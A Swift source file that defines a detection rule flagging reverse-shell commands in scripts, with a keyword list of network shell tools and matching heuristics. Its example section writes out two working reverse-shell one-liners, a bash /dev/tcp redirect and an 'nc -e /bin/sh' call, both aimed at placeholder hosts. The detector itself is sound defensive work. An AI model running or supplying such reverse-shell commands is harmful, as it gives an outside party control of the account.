internal import ScriptAnalysis
internal import Text

struct SuspiciousReverseShell: TextRule {
    let id = RuleID("suspicious-reverse-shell")
    let words = ["/dev/tcp/", "sh -i", "nc -", "ncat -", "netcat -", "mkfifo", "pty.spawn("]
    let summary = FindingText(
        "No shell is handed to another machine.",
        ja: "シェルを別のコンピューターに渡さないこと。")
    let why = FindingText(
        """
        A shell that is connected to another machine gives away control of the whole account.
        """,
        ja: "別のコンピューターに接続されたシェルは、アカウント全体の操作を渡してしまいます。")
    var good: [RuleExample] {
        [
            .body(
                "```bash\ntimeout 1 bash -c '</dev/tcp/localhost/8080' && nc -zv localhost 80\n```\n"
            )
        ]
    }
    var bad: [RuleExample] {
        [
            .body("```bash\nbash -i >& ↓/dev/tcp/198.51.100.7/4444 0>&1\n```\n"),
            .body("```bash\n↓nc -e /bin/sh host.example 4444\n```\n"),
        ]
    }

    let rows = [
        EffectRow(.act(.handsOverShell), .warning, .consent) { _, quotation in
            SecurityMessages.handsOverShell(quotation)
        }
    ]

    func judge(_ passage: Passage) -> Suspicion? {
        let start = passage.word.lowerBound
        guard
            isShellHandedOver(passage, String(decoding: passage.text[passage.word], as: UTF8.self))
        else { return nil }
        // The address is the more useful place to report.
        return Suspicion(
            message: SecurityMessages.reverseShell, severity: .warning, effect: .block,
            at: passage.find("/dev/tcp/") ?? start)
    }

    private func isShellHandedOver(_ passage: Passage, _ word: String) -> Bool {
        let end = passage.word.upperBound
        switch word {
        case "/dev/tcp/":
            return !passage.starts("localhost", at: end) && !passage.starts("127.", at: end)
                && passage.containsAny(of: ["sh -i", "0>&1", "0<&", "<&5", "<&3", "exec 5<>"])
        case "sh -i":
            let start = passage.skippingBlanks(end)
            // Both streams are the same connection: `sh -i <&3 >&3`.
            if passage.starts("<&", at: start) {
                return passage.text[start...].prefix(16).holds(">&")
            }
            return passage.starts(">&", at: start) && passage.contains("/dev/tcp/")
        case "mkfifo":
            return passage.containsAny(of: ["| nc ", "|nc ", "| ncat "])
                && passage.containsAny(of: ["/bin/sh", "/bin/bash", "sh -i"])
        case "pty.spawn(":
            return passage.containsAny(of: ["socket", ".connect(", "dup2"])
        default:
            guard passage.isWordStart(passage.word.lowerBound) else { return false }
            let options = passage.text[end...].prefix { $0.isLetter }
            return options.contains(101) && options.count <= 5
                && passage.containsAny(of: ["/bin/", "cmd.exe", " sh ", " bash "])
        }
    }
}
